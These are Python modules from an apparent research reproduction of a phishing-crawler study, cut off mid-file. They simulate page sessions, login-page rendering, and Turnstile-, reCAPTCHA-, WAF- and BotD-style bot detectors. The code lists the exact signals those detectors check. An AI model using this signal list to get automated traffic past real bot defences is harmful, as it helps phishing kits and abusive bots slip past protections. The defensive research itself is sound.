        properties: dict | None = None,
        trusted: bool | None = None,
    ) -> object:
        """Fire an event at listeners registered on ``target``."""
        if target is None:
            return UNDEFINED
        if trusted is None:
            trusted = self.browser.profile.trusted_events
        event = JSObject(
            {
                "type": event_type,
                "isTrusted": trusted,
                "preventDefault": NativeFunction(lambda _i, _t, _a: UNDEFINED, "preventDefault"),
                "stopPropagation": NativeFunction(lambda _i, _t, _a: UNDEFINED, "stopPropagation"),
                "target": target,
            }
        )
        for key, value in (properties or {}).items():
            event.set(key, value)
        for registered_target, registered_type, callback in list(self.listeners):
            if registered_target is target and registered_type == event_type:
                try:
                    self.interp.call_function(callback, target, [event])
                except JSError as exc:
                    self.script_errors.append(str(exc))
        # Legacy on<event> handler properties.
        handler = target.get(f"on{event_type}")
        if handler is not UNDEFINED and handler is not None:
            try:
                self.interp.call_function(handler, target, [event])
            except JSError as exc:
                self.script_errors.append(str(exc))
        return UNDEFINED

    # ------------------------------------------------------------------
    def resolve_url(self, raw: str) -> ParsedUrl | None:
        """Resolve a possibly-relative URL against the document URL."""
        raw = raw.strip()
        if not raw:
            return None
        try:
            if raw.startswith(("http://", "https://")):
                return parse_url(raw)
            if raw.startswith("//"):
                return parse_url(f"{self.url.scheme}:{raw}")
            if raw.startswith("/"):
                return parse_url(f"{self.url.origin}{raw}")
            base_path = self.url.path.rsplit("/", 1)[0]
            return parse_url(f"{self.url.origin}{base_path}/{raw}")
        except UrlError:
            return None

    def ajax(self, method: str, raw_url: str, headers: dict[str, str], body: str) -> HttpResponse | None:
        """Perform an XHR/fetch call for page scripts."""
        absolute = self.resolve_url(raw_url)
        if absolute is None:
            self.ajax_log.append(AjaxCall(method, raw_url, headers, body, None))
            return None
        response = self.browser.subrequest(
            method, absolute, referrer=self.url.raw, kind="ajax", extra_headers=headers, body=body
        )
        self.ajax_log.append(
            AjaxCall(method, absolute.raw, headers, body, response.status if response else None)
        )
        return response

    # ------------------------------------------------------------------
    # Post-run observations
    # ------------------------------------------------------------------
    @property
    def navigation_target(self) -> str | None:
        """Where scripts asked the browser to navigate, if anywhere."""
        if self.location is not None:
            href = to_js_string(self.location.get("href"))
            if href and href != self.url.raw:
                return href
        if self.window is not None:
            value = self.window.get("location")
            if isinstance(value, str) and value != self.url.raw:
                return value
        for element in self.parsed.elements:
            if element.tag == "meta" and element.attrs.get("http-equiv", "").lower() == "refresh":
                match = _META_REFRESH_RE.match(element.attrs.get("content", ""))
                if match:
                    return match.group(1).strip().strip("'\"")
        return None

    def signals(self) -> SessionSignals:
        """Summarise the client-side evasion behaviours observed."""
        console = self.interp.globals.lookup("console")
        hijacked = any(
            console.get(level) is not original
            for level, original in self._original_console.items()
        )
        context_blocked = any(
            event_type == "contextmenu" for _, event_type, _ in self.listeners
        )
        if self.document is not None and self.document.get("oncontextmenu") not in (UNDEFINED, None):
            context_blocked = True
        keys_blocked = any(event_type == "keydown" for _, event_type, _ in self.listeners)

        hue = 0.0
        for holder in (self.document, ):
            if holder is None:
                continue
            for element_name in ("documentElement", "body"):
                element = holder.get(element_name)
                if isinstance(element, JSObject):
                    style = element.get("style")
                    if isinstance(style, JSObject):
                        match = _HUE_ROTATE_RE.search(to_js_string(style.get("filter")))
                        if match:
                            hue = float(match.group(1))
        if hue == 0.0 and self.response is not None:
            visual = getattr(self.response, "visual", None)
            if visual is not None and visual.hue_rotate_deg:
                hue = visual.hue_rotate_deg

        return SessionSignals(
            console_hijacked=hijacked,
            debugger_hits=self.debugger_hits,
            uses_debugger_timer=self._debugger_in_timer,
            context_menu_blocked=context_blocked,
            devtools_keys_blocked=keys_blocked,
            hue_rotation_deg=hue,
            navigator_reads=tuple(getattr(self.navigator, "reads", ())),
            intl_timezone_read=bool(self.intl_reads),
            screen_reads=tuple(getattr(self.screen, "reads", ())),
            script_errors=tuple(self.script_errors),
            popups=tuple(self.popups),
        )

    def screenshot(self) -> Image:
        """Rasterise the page as the paper's pipeline does after load."""
        visual = getattr(self.response, "visual", None)
        overlay = getattr(self.response, "overlay_text", None)
        if visual is None:
            title = self.parsed.title or self.url.host
            words = (self.parsed.text or " ").split()
            lines = [title.upper()[:36]] + [
                " ".join(words[i : i + 6]).upper()[:36] for i in range(0, min(len(words), 18), 6)
            ]
            return render_lines([line or " " for line in lines], scale=2)
        logo_image = self._fetch_logo(visual)
        image = render_visual(visual, overlay_text=overlay, logo_image=logo_image)
        dynamic_hue = self.signals().hue_rotation_deg
        if dynamic_hue and not visual.hue_rotate_deg:
            from repro.imaging.effects import hue_rotate

            image = hue_rotate(image, dynamic_hue)
        return image

    def _fetch_logo(self, visual) -> Image | None:
        if not visual.logo_url:
            return None
        absolute = self.resolve_url(visual.logo_url)
        if absolute is None:
            return None
        response = self.browser.subrequest("GET", absolute, referrer=self.url.raw, kind="resource")
        if response is None or response.status != 200:
            return None
        from repro.imaging.render import render_text

        return render_text((getattr(response, "logo_text", None) or absolute.host)[:10].upper(), scale=1, margin=1)
