"""Deterministic page rasterisation from a :class:`VisualSpec`.

The layout mimics a typical login portal: brand header band, centred
login box with title, labelled input fields, a submit button, and a
footer.  Clones of the same spec rasterise identically; small noise,
crops, victim-email overlays, and hue rotations perturb pixels without
destroying the grayscale structure the fuzzy hashes read.
"""

from __future__ import annotations

from repro.imaging.effects import hue_rotate
from repro.imaging.image import Image
from repro.imaging.render import render_text
from repro.web.site import VisualSpec

PAGE_WIDTH = 320
PAGE_HEIGHT = 260


def render_visual(
    spec: VisualSpec,
    width: int = PAGE_WIDTH,
    height: int = PAGE_HEIGHT,
    overlay_text: str | None = None,
    logo_image: Image | None = None,
) -> Image:
    """Rasterise a page description into a screenshot-sized image."""
    image = Image.new(width, height, spec.background)
    variant = spec.layout_variant % 12

    # Brand header band: height and alignment depend on the layout.
    header_height = height // 6 + (variant % 3) * 14
    image.fill_rect(0, 0, width, header_height, spec.header_color)
    if spec.brand:
        brand = render_text(spec.brand.upper(), scale=2, fg=(255, 255, 255), bg=spec.header_color, margin=2)
        brand_x = 10 if variant % 2 == 0 else max(10, (width - brand.width) // 2)
        image.paste(brand, brand_x, max(0, (header_height - brand.height) // 2))
    if logo_image is None and spec.logo_text:
        logo_image = render_text(spec.logo_text[:10].upper(), scale=1, margin=1)
    if logo_image is not None:
        image.paste(logo_image, width - logo_image.width - 8, 4)

    # Some layouts add a side navigation rail.
    if variant in (2, 5, 8, 11):
        image.fill_rect(0, header_height, 36, height - header_height, spec.header_color)

    # Login box: position and width depend on the layout.
    box_x = width // 8 + ((variant // 3) % 3) * 18
    box_y = header_height + 10 + (variant % 2) * 10
    box_w = width * 3 // 4 - ((variant // 2) % 3) * 24
    box_h = height - box_y - 28
    image.fill_rect(box_x, box_y, box_w, box_h, spec.box_color)

    cursor_y = box_y + 8
    title = render_text(spec.title.upper()[:24], scale=1, fg=(40, 40, 40), bg=spec.box_color, margin=1)
    image.paste(title, box_x + 10, cursor_y)
    cursor_y += title.height + 6

    # Input fields: label + outlined box.
    for label in spec.fields:
        label_img = render_text(label.upper()[:18], scale=1, fg=(90, 90, 90), bg=spec.box_color, margin=1)
        image.paste(label_img, box_x + 10, cursor_y)
        cursor_y += label_img.height + 2
        field_h = 14
        image.fill_rect(box_x + 10, cursor_y, box_w - 20, field_h, (250, 250, 250))
        image.fill_rect(box_x + 10, cursor_y, box_w - 20, 1, (180, 180, 180))
        image.fill_rect(box_x + 10, cursor_y + field_h - 1, box_w - 20, 1, (180, 180, 180))
        image.fill_rect(box_x + 10, cursor_y, 1, field_h, (180, 180, 180))
        image.fill_rect(box_x + 9 + box_w - 20, cursor_y, 1, field_h, (180, 180, 180))
        cursor_y += field_h + 6

    # Submit button.
    if spec.button_text:
        button_h = 18
        image.fill_rect(box_x + 10, cursor_y, box_w - 20, button_h, spec.button_color)
        button_label = render_text(spec.button_text.upper()[:16], scale=1, fg=(255, 255, 255), bg=spec.button_color, margin=1)
        image.paste(
            button_label,
            box_x + 10 + max(0, (box_w - 20 - button_label.width) // 2),
            cursor_y + max(0, (button_h - button_label.height) // 2),
        )
        cursor_y += button_h + 4

    # Footer.
    if spec.footer:
        footer = render_text(spec.footer.upper()[:40], scale=1, fg=(120, 120, 120), bg=spec.background, margin=1)
        image.paste(footer, 10, height - footer.height - 4)

    # Victim-email (or other) overlay stamped by the serving kit.
    if overlay_text:
        stamp = render_text(overlay_text.upper()[:34], scale=1, fg=(70, 70, 70), bg=spec.box_color, margin=1)
        image.paste(stamp, box_x + 10, box_y + box_h - stamp.height - 4)

    if spec.hue_rotate_deg:
        image = hue_rotate(image, spec.hue_rotate_deg)
    return image
