"""Bot-detection services (Section IV-D's three tools, plus reCAPTCHA v3).

Each service is modelled at the same layer it operates in reality:

- :mod:`~repro.botdetect.botd` — BotD, a purely client-side open-source
  library: a script computes a verdict from in-page signals.
- :mod:`~repro.botdetect.turnstile` — Cloudflare Turnstile: an
  interstitial challenge script probing the environment (automation
  flags, CDP artifacts, timing proof-of-work, trusted input events)
  whose payload a verification endpoint scores together with
  network-level context, then issues a clearance cookie.
- :mod:`~repro.botdetect.anonwaf` — the anonymous commercial WAF:
  network-side checks on *every* request (TLS stack fingerprint, HTTP
  header quirks, IP reputation) plus a behavioural JS sensor, with a
  per-visit verdict log like the one the paper consulted.
- :mod:`~repro.botdetect.recaptcha` — Google reCAPTCHA v3: a background
  scoring service kits run *after* Turnstile, "thereby preventing the
  need for victims to interact with two CAPTCHA-like solutions".
"""

from repro.botdetect.botd import botd_script, read_botd_verdict
from repro.botdetect.turnstile import TurnstileProtection
from repro.botdetect.anonwaf import AnonWafProtection
from repro.botdetect.recaptcha import RecaptchaService

__all__ = [
    "botd_script",
    "read_botd_verdict",
    "TurnstileProtection",
    "AnonWafProtection",
    "RecaptchaService",
]
