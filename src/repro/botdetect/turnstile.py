"""Cloudflare-Turnstile-style challenge protection.

Turnstile fronts a website with "a sequence of JavaScript challenges
that collect data about the browser environment" (Section IV-D).  The
model follows the real control flow:

1. A visitor without a clearance cookie receives the interstitial page
   whose script probes the environment (automation flags, CDP
   artifacts, a timing proof-of-work, plugin surface) and registers an
   input listener to observe trusted mouse events.
2. The payload is POSTed to the challenge endpoint, which combines it
   with network-level context and either issues a ``cf_clearance``
   cookie (the page then reloads) or keeps serving the challenge.
3. Subsequent requests bearing a valid clearance pass through to the
   protected site.

The paper's NotABot passes "without requiring any interaction" — the
behaviour rewarded with a Cloudflare bug bounty — because its CDP-native
synthetic input is indistinguishable from a human's.
"""

from __future__ import annotations

import json
import threading
from dataclasses import dataclass, field

from repro.botdetect import signals
from repro.web.context import ClientContext
from repro.web.http import HttpRequest, HttpResponse
from repro.web.site import Website

CHALLENGE_PATH = "/cdn-cgi/challenge"
CLEARANCE_COOKIE = "cf_clearance"

_INTERSTITIAL_TEMPLATE = """<html>
<head><title>Just a moment...</title></head>
<body>
<h1>Checking your browser before accessing this site.</h1>
<div id="turnstile-widget">Verifying...</div>
<script>
%(collector)s
setTimeout(function(){
  var xhr = new XMLHttpRequest();
  xhr.open('POST', '%(challenge_path)s');
  xhr.onload = function(){
    var verdict = JSON.parse(xhr.responseText);
    if (verdict.pass) { location.reload(); }
  };
  xhr.send(JSON.stringify(payload));
}, 50);
</script>
</body></html>"""


@dataclass
class TurnstileVerdict:
    """One logged challenge assessment."""

    client_ip: str
    passed: bool
    detections: tuple[signals.Detection, ...] = ()
    timestamp: float = 0.0


@dataclass
class TurnstileProtection:
    """Wraps a website's handler with the Turnstile flow."""

    website: Website
    verdict_log: list[TurnstileVerdict] = field(default_factory=list)
    _clearances: dict[str, str] = field(default_factory=dict)  # token -> ip
    _counter: int = 0
    #: Token issuance is shared state: concurrent runner workers hit the
    #: same protected site, and a torn counter would hand two clients
    #: the same clearance token.
    _issue_lock: threading.Lock = field(default_factory=threading.Lock, repr=False)

    def __post_init__(self):
        self._inner_handle = self.website.handle
        self.website.handle = self.handle  # type: ignore[method-assign]

    # ------------------------------------------------------------------
    def handle(self, request: HttpRequest, context: ClientContext) -> HttpResponse:
        if request.url.path == CHALLENGE_PATH:
            return self._handle_challenge(request, context)
        if self._has_clearance(request, context):
            return self._inner_handle(request, context)
        return HttpResponse(
            status=403,
            body=_INTERSTITIAL_TEMPLATE
            % {"collector": signals.COLLECTOR_SNIPPET, "challenge_path": CHALLENGE_PATH},
        )

    # ------------------------------------------------------------------
    def _has_clearance(self, request: HttpRequest, context: ClientContext) -> bool:
        cookie_header = request.headers.get("Cookie", "") or ""
        for part in cookie_header.split(";"):
            part = part.strip()
            if part.startswith(f"{CLEARANCE_COOKIE}="):
                token = part.split("=", 1)[1]
                return self._clearances.get(token) == context.ip
        return False

    def assess(self, payload: dict, context: ClientContext) -> list[signals.Detection]:
        """All triggered signals for a challenge payload."""
        checks = (
            signals.check_webdriver(payload),
            signals.check_headless_ua(payload),
            signals.check_plugin_surface(payload),
            signals.check_window_dimensions(payload),
            signals.check_cdp_artifact(payload),
            signals.check_timing_quantization(payload),
            signals.check_behaviour(payload),
        )
        detections = [check for check in checks if check is not None]
        if context.known_scanner:
            detections.append(signals.Detection("scanner-ip", context.ip))
        return detections

    def _handle_challenge(self, request: HttpRequest, context: ClientContext) -> HttpResponse:
        try:
            payload = json.loads(request.body or "{}")
        except json.JSONDecodeError:
            payload = {}
        detections = self.assess(payload, context)
        passed = not detections
        self.verdict_log.append(
            TurnstileVerdict(
                client_ip=context.ip,
                passed=passed,
                detections=tuple(detections),
                timestamp=request.timestamp,
            )
        )
        if not passed:
            return HttpResponse(
                status=200,
                body=json.dumps({"pass": False, "reasons": [d.signal for d in detections]}),
                content_type="application/json",
            )
        with self._issue_lock:
            self._counter += 1
            token = f"clearance-{self._counter:06d}"
            self._clearances[token] = context.ip
        response = HttpResponse(
            status=200, body=json.dumps({"pass": True}), content_type="application/json"
        )
        response.headers.set("Set-Cookie", f"{CLEARANCE_COOKIE}={token}; Path=/; HttpOnly")
        return response
