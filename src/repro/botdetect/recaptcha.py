"""Google-reCAPTCHA-v3-style background scoring.

v3 never shows a challenge: a script collects environment data and the
service returns a score in [0, 1].  The paper found kits running
reCAPTCHA "in the background following Turnstile, thereby preventing
the need for victims to interact with two CAPTCHA-like solutions
consecutively" (Section V-C.2.b) — 314 of the reported phishing
messages used it, typically as the second fingerprinting layer.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field

from repro.botdetect import signals
from repro.web.context import ClientContext
from repro.web.http import HttpRequest, HttpResponse
from repro.web.network import Network
from repro.web.site import Website
from repro.web.tls import TLSCertificate

SERVICE_DOMAIN = "recaptcha.google-services.example"
SCORE_PATH = "/recaptcha/api/score"

#: Client-side snippet kits embed: grecaptcha.execute() -> score callback.
RECAPTCHA_SNIPPET = """
%(collector)s
setTimeout(function(){
  var xhr = new XMLHttpRequest();
  xhr.open('POST', 'https://%(domain)s%(path)s');
  xhr.onload = function(){
    var result = JSON.parse(xhr.responseText);
    window.__recaptcha_score = result.score;
    %(on_score)s
  };
  xhr.send(JSON.stringify(payload));
}, 60);
"""


@dataclass
class ScoreRecord:
    client_ip: str
    score: float
    detections: tuple[signals.Detection, ...] = ()
    timestamp: float = 0.0


@dataclass
class RecaptchaService:
    """The scoring backend, hostable on the network fabric."""

    score_log: list[ScoreRecord] = field(default_factory=list)

    def score(self, payload: dict, context: ClientContext) -> tuple[float, list[signals.Detection]]:
        """Score a visitor: 0.9 pristine, each signal costs 0.3."""
        checks = (
            signals.check_webdriver(payload),
            signals.check_headless_ua(payload),
            signals.check_plugin_surface(payload),
            signals.check_cdp_artifact(payload),
            signals.check_behaviour(payload),
        )
        detections = [check for check in checks if check is not None]
        if context.known_scanner or context.looks_like_cloud:
            detections.append(signals.check_ip_reputation(context))  # type: ignore[arg-type]
        value = max(0.1, 0.9 - 0.3 * len(detections))
        return value, detections

    def install(self, network: Network) -> Website:
        """Host the scoring endpoint on the fabric."""
        site = Website(SERVICE_DOMAIN, ip="142.250.0.9")

        def _score_handler(request: HttpRequest, context: ClientContext) -> HttpResponse:
            try:
                payload = json.loads(request.body or "{}")
            except json.JSONDecodeError:
                payload = {}
            value, detections = self.score(payload, context)
            self.score_log.append(
                ScoreRecord(
                    client_ip=context.ip,
                    score=value,
                    detections=tuple(detections),
                    timestamp=request.timestamp,
                )
            )
            return HttpResponse(
                status=200,
                body=json.dumps({"score": value}),
                content_type="application/json",
            )

        site.add_handler(SCORE_PATH, _score_handler)
        network.host_website(site)
        network.issue_certificate(
            TLSCertificate(SERVICE_DOMAIN, "GTS", float("-inf"), float("inf"))
        )
        return site

    @staticmethod
    def embed_snippet(on_score: str = "") -> str:
        """The script kits inline to run a background score check."""
        return RECAPTCHA_SNIPPET % {
            "collector": signals.COLLECTOR_SNIPPET,
            "domain": SERVICE_DOMAIN,
            "path": SCORE_PATH,
            "on_score": on_score,
        }
