"""AnonWAF: the anonymous commercial Web Application Firewall.

Per Section IV-D it "employs sophisticated techniques, including TLS
fingerprinting, behavioral analysis, JavaScript fingerprinting, and
HTTP header inspection".  The model therefore checks every request at
the network layer (TLS stack, header quirks — including the Puppeteer
request-interception cache anomaly the paper discovered — automation
flags in the UA, IP reputation) and, on first contact, serves a sensor
interstitial whose behavioural payload feeds the same per-visit verdict
log the authors consulted.
"""

from __future__ import annotations

import json
import threading
from dataclasses import dataclass, field

from repro.botdetect import signals
from repro.web.context import ClientContext
from repro.web.http import HttpRequest, HttpResponse
from repro.web.site import Website

SENSOR_PATH = "/_waf/sensor"
CLEARANCE_COOKIE = "anonwaf_clearance"

_SENSOR_TEMPLATE = """<html>
<head><title>One moment please</title></head>
<body>
<noscript>Please enable JavaScript.</noscript>
<script>
%(collector)s
setTimeout(function(){
  var xhr = new XMLHttpRequest();
  xhr.open('POST', '%(sensor_path)s');
  xhr.onload = function(){
    var verdict = JSON.parse(xhr.responseText);
    if (verdict.pass) { location.reload(); }
  };
  xhr.send(JSON.stringify(payload));
}, 50);
</script>
</body></html>"""


@dataclass
class WafVerdict:
    """One entry in the WAF's visit log."""

    client_ip: str
    path: str
    classified_as: str  # 'human' | 'bot'
    detections: tuple[signals.Detection, ...] = ()
    stage: str = "network"  # 'network' | 'sensor'
    timestamp: float = 0.0


@dataclass
class AnonWafProtection:
    """Wraps a website's handler with network + sensor inspection."""

    website: Website
    verdict_log: list[WafVerdict] = field(default_factory=list)
    _clearances: dict[str, str] = field(default_factory=dict)
    _counter: int = 0
    #: See TurnstileProtection: concurrent workers share this site's
    #: clearance state, so issuance must be atomic.
    _issue_lock: threading.Lock = field(default_factory=threading.Lock, repr=False)

    def __post_init__(self):
        self._inner_handle = self.website.handle
        self.website.handle = self.handle  # type: ignore[method-assign]

    # ------------------------------------------------------------------
    def network_detections(
        self, request: HttpRequest, context: ClientContext
    ) -> list[signals.Detection]:
        headers = {name: value for name, value in request.headers.items()}
        checks = [
            signals.check_tls_stack(context),
            signals.check_interception_headers(headers),
            signals.check_ip_reputation(context),
        ]
        agent = request.user_agent
        if "HeadlessChrome" in agent or "PhantomJS" in agent:
            checks.append(signals.Detection("headless-user-agent", agent[:60]))
        return [check for check in checks if check is not None]

    def handle(self, request: HttpRequest, context: ClientContext) -> HttpResponse:
        network_hits = self.network_detections(request, context)
        if network_hits:
            self.verdict_log.append(
                WafVerdict(
                    client_ip=context.ip,
                    path=request.url.path,
                    classified_as="bot",
                    detections=tuple(network_hits),
                    stage="network",
                    timestamp=request.timestamp,
                )
            )
            return HttpResponse.forbidden("Access denied")

        if request.url.path == SENSOR_PATH:
            return self._handle_sensor(request, context)

        if self._has_clearance(request, context):
            self.verdict_log.append(
                WafVerdict(
                    client_ip=context.ip,
                    path=request.url.path,
                    classified_as="human",
                    stage="network",
                    timestamp=request.timestamp,
                )
            )
            return self._inner_handle(request, context)

        return HttpResponse(
            status=403,
            body=_SENSOR_TEMPLATE
            % {"collector": signals.COLLECTOR_SNIPPET, "sensor_path": SENSOR_PATH},
        )

    # ------------------------------------------------------------------
    def _has_clearance(self, request: HttpRequest, context: ClientContext) -> bool:
        cookie_header = request.headers.get("Cookie", "") or ""
        for part in cookie_header.split(";"):
            part = part.strip()
            if part.startswith(f"{CLEARANCE_COOKIE}="):
                token = part.split("=", 1)[1]
                return self._clearances.get(token) == context.ip
        return False

    def sensor_detections(self, payload: dict) -> list[signals.Detection]:
        checks = (
            signals.check_webdriver(payload),
            signals.check_headless_ua(payload),
            signals.check_behaviour(payload),
        )
        return [check for check in checks if check is not None]

    def _handle_sensor(self, request: HttpRequest, context: ClientContext) -> HttpResponse:
        try:
            payload = json.loads(request.body or "{}")
        except json.JSONDecodeError:
            payload = {}
        detections = self.sensor_detections(payload)
        passed = not detections
        self.verdict_log.append(
            WafVerdict(
                client_ip=context.ip,
                path=request.url.path,
                classified_as="human" if passed else "bot",
                detections=tuple(detections),
                stage="sensor",
                timestamp=request.timestamp,
            )
        )
        if not passed:
            return HttpResponse(
                status=200,
                body=json.dumps({"pass": False, "reasons": [d.signal for d in detections]}),
                content_type="application/json",
            )
        with self._issue_lock:
            self._counter += 1
            token = f"waf-{self._counter:06d}"
            self._clearances[token] = context.ip
        response = HttpResponse(
            status=200, body=json.dumps({"pass": True}), content_type="application/json"
        )
        response.headers.set("Set-Cookie", f"{CLEARANCE_COOKIE}={token}; Path=/; HttpOnly")
        return response

    # ------------------------------------------------------------------
    def human_visits(self) -> list[WafVerdict]:
        return [verdict for verdict in self.verdict_log if verdict.classified_as == "human"]

    def bot_visits(self) -> list[WafVerdict]:
        return [verdict for verdict in self.verdict_log if verdict.classified_as == "bot"]
