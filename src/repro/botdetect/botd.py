"""BotD: the open-source client-side bot-detection library.

BotD runs entirely in the page: it inspects automation flags, the user
agent, the plugin surface, and window metrics, and exposes its verdict
to the embedding site.  Phishing kits in the paper embedded BotD (and
FingerprintJS) directly — five messages in a July campaign — and the
Table I assessment uses it as the "basic bot detection" baseline.
"""

from __future__ import annotations

from repro.browser.session import PageSession
from repro.js.interp import JSObject
from repro.js.stdlib import js_to_python

#: The library script: computes window.__botd_result = {bot, botKind}.
BOTD_SCRIPT = """
(function(){
  var reasons = [];
  if (navigator.webdriver === true) { reasons.push('webdriver'); }
  var ua = navigator.userAgent;
  if (ua.indexOf('HeadlessChrome') !== -1 || ua.indexOf('PhantomJS') !== -1) {
    reasons.push('headless_ua');
  }
  var isMobile = ua.indexOf('Mobile') !== -1 || ua.indexOf('iPhone') !== -1 || ua.indexOf('Android') !== -1;
  if (!isMobile && navigator.plugins.length === 0 && typeof window.chrome === 'undefined') {
    reasons.push('plugin_surface');
  }
  if (window.outerWidth === 0 || window.outerHeight === 0) {
    reasons.push('window_metrics');
  }
  window.__botd_result = {
    bot: reasons.length > 0,
    botKind: reasons.length > 0 ? reasons[0] : '',
    reasons: reasons
  };
})();
"""


def botd_script() -> str:
    """The BotD library source a page can inline."""
    return BOTD_SCRIPT


def botd_gate_script(on_human: str, on_bot: str) -> str:
    """BotD plus a gate: run ``on_human`` or ``on_bot`` based on the verdict."""
    return (
        BOTD_SCRIPT
        + "\nif (window.__botd_result.bot) {\n"
        + on_bot
        + "\n} else {\n"
        + on_human
        + "\n}\n"
    )


def read_botd_verdict(session: PageSession) -> dict | None:
    """Read back the verdict BotD left on the window object."""
    window = session.window
    if window is None:
        return None
    result = window.get("__botd_result")
    if not isinstance(result, JSObject):
        # The library also lands on globals when `window.x =` is not used.
        if session.interp.globals.has("__botd_result"):
            result = session.interp.globals.lookup("__botd_result")
        if not isinstance(result, JSObject):
            return None
    return js_to_python(result)
