"""Shared signal definitions and payload scoring for bot detectors.

The three services check overlapping but distinct signal sets — that is
what produces Table I's pattern (e.g. undetected_chromedriver passes the
WAF yet fails Turnstile, because only Turnstile looks for the CDP
``Runtime.enable`` artifact).  This module centralises the individual
checks; each detector composes its own subset.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.web.context import ClientContext

#: TLS ClientHello fingerprints that belong to real browser stacks.
BROWSER_TLS_FINGERPRINTS = frozenset({"chrome", "firefox", "safari", "safari-ios", "edge"})


@dataclass(frozen=True)
class Detection:
    """One triggered signal."""

    signal: str
    detail: str = ""


# ----------------------------------------------------------------------
# Client-side (JS-collectable) signal checks.  ``payload`` is the dict a
# challenge script assembled in the page and POSTed to the verifier.
# ----------------------------------------------------------------------
def check_webdriver(payload: dict) -> Detection | None:
    if payload.get("webdriver"):
        return Detection("navigator.webdriver", "automation flag set")
    return None


def check_headless_ua(payload: dict) -> Detection | None:
    agent = str(payload.get("userAgent", ""))
    if "HeadlessChrome" in agent or "PhantomJS" in agent:
        return Detection("headless-user-agent", agent[:60])
    return None


def check_plugin_surface(payload: dict) -> Detection | None:
    """Desktop Chrome without plugins and without window.chrome is headless."""
    agent = str(payload.get("userAgent", ""))
    is_mobile = "Mobile" in agent or "iPhone" in agent or "Android" in agent
    if is_mobile:
        return None
    if float(payload.get("plugins", 0)) == 0 and not payload.get("hasChrome", False):
        return Detection("plugin-surface", "no plugins and no window.chrome on desktop")
    return None


def check_window_dimensions(payload: dict) -> Detection | None:
    if float(payload.get("outerWidth", 1)) == 0 or float(payload.get("outerHeight", 1)) == 0:
        return Detection("zero-outer-window", "headless window metrics")
    return None


def check_cdp_artifact(payload: dict) -> Detection | None:
    if payload.get("cdpArtifact"):
        return Detection("cdp-runtime-leak", "DevTools Runtime.enable artifact visible")
    return None


def check_timing_quantization(payload: dict) -> Detection | None:
    if payload.get("timingQuantized"):
        return Detection("vm-timing", "performance.now() is coarsely quantized")
    return None


def check_behaviour(payload: dict) -> Detection | None:
    """No mouse activity, or synthetic (untrusted) events only."""
    moves = float(payload.get("mouseMoves", 0))
    trusted = float(payload.get("trustedMoves", 0))
    if moves == 0:
        return Detection("no-mouse-activity", "no input events observed")
    if trusted == 0:
        return Detection("untrusted-events", "all input events are synthetic")
    return None


# ----------------------------------------------------------------------
# Network-side checks.
# ----------------------------------------------------------------------
def check_tls_stack(context: ClientContext) -> Detection | None:
    if context.tls_fingerprint not in BROWSER_TLS_FINGERPRINTS:
        return Detection("tls-fingerprint", f"non-browser TLS stack {context.tls_fingerprint}")
    return None


def check_interception_headers(headers: dict[str, str]) -> Detection | None:
    """The Puppeteer request-interception cache quirk (Section IV-C)."""
    lowered = {name.lower(): value for name, value in headers.items()}
    if lowered.get("cache-control", "").lower() == "no-cache" and "pragma" in lowered:
        return Detection("interception-cache-headers", "Cache-Control/Pragma anomaly")
    return None


def check_ip_reputation(context: ClientContext) -> Detection | None:
    if context.known_scanner:
        return Detection("scanner-ip", f"{context.ip} on scanner blocklist")
    if context.looks_like_cloud:
        return Detection("cloud-ip", f"{context.ip_type} address")
    return None


#: The JS snippet every challenge script embeds to collect its payload.
COLLECTOR_SNIPPET = """
var payload = {
  webdriver: navigator.webdriver === true,
  userAgent: navigator.userAgent,
  plugins: navigator.plugins.length,
  hasChrome: typeof window.chrome !== 'undefined',
  outerWidth: window.outerWidth,
  outerHeight: window.outerHeight,
  language: navigator.language,
  timezone: Intl.DateTimeFormat().resolvedOptions().timeZone,
  cdpArtifact: typeof __cdp_runtime_binding !== 'undefined',
  timingQuantized: false,
  mouseMoves: 0,
  trustedMoves: 0
};
var t1 = performance.now();
var t2 = performance.now();
var t3 = performance.now();
payload.timingQuantized = (t1 % 1 === 0) && (t2 % 1 === 0) && (t3 % 1 === 0);
document.addEventListener('mousemove', function(e){
  payload.mouseMoves = payload.mouseMoves + 1;
  if (e.isTrusted) { payload.trustedMoves = payload.trustedMoves + 1; }
});
"""
