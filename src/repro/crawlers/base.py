"""The crawler interface: a Browser plus crawl bookkeeping.

CrawlerBox was "designed with a modular architecture, allowing for
interchangeable use of the crawling component" (Section IV-A): the core
pipeline accepts any :class:`Crawler`, so the Table I comparators can be
swapped in for ablation runs.
"""

from __future__ import annotations

import random

from repro.browser.browser import Browser, VisitResult
from repro.browser.profile import BrowserProfile
from repro.browser.session import PageSession
from repro.web.network import Network


class Crawler:
    """A URL/HTML crawling component with a fixed fingerprint profile."""

    def __init__(
        self,
        network: Network,
        profile: BrowserProfile,
        rng: random.Random | None = None,
        retain_results: bool = True,
    ):
        self.network = network
        self.profile = profile
        self.rng = rng or random.Random(0)
        #: Keep every VisitResult in :attr:`crawled`.  Pipelines that own
        #: their crawler disable this so a full-corpus run stays
        #: memory-bounded; interactive/assessment use keeps the history.
        self.retain_results = retain_results
        self.crawled: list[VisitResult] = []

    @property
    def name(self) -> str:
        return self.profile.name

    def _fresh_browser(self, timestamp: float) -> Browser:
        """A new browser per crawl, like NotABot's per-site Chrome instance.

        "An instance of the original Chrome browser is launched for each
        crawled website or retrieved HTML/JavaScript code" — fresh
        cookies and storage every time.
        """
        return Browser(
            self.network,
            self.profile,
            rng=random.Random(self.rng.getrandbits(32)),
            timestamp=timestamp,
        )

    def crawl_url(self, url: str, timestamp: float = 0.0, fault_attempt: int = 0) -> VisitResult:
        """Visit one URL and log everything.

        ``fault_attempt`` is the resilient crawl path's retry ordinal:
        it reaches the fault engine through every request the visit
        issues, so a retried visit re-rolls its (deterministic) fault
        schedule instead of replaying the failure.
        """
        browser = self._fresh_browser(timestamp)
        browser.fault_attempt = fault_attempt
        result = browser.visit(url)
        if self.retain_results:
            self.crawled.append(result)
        return result

    def crawl_html(self, html: str, timestamp: float = 0.0) -> PageSession:
        """Dynamically load a local HTML/JS attachment."""
        browser = self._fresh_browser(timestamp)
        return browser.load_local_html(html)
