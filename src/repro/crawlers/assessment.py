"""The Table I experiment: crawlers vs bot-detection tools.

For each crawler the harness builds three fresh protected sites — a BotD
test page, a Turnstile-fronted page, and an AnonWAF-fronted page — and
actually crawls them.  A pass means the crawler reached the protected
content (or BotD classified it as human); nothing is table-driven.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from repro.botdetect.anonwaf import AnonWafProtection
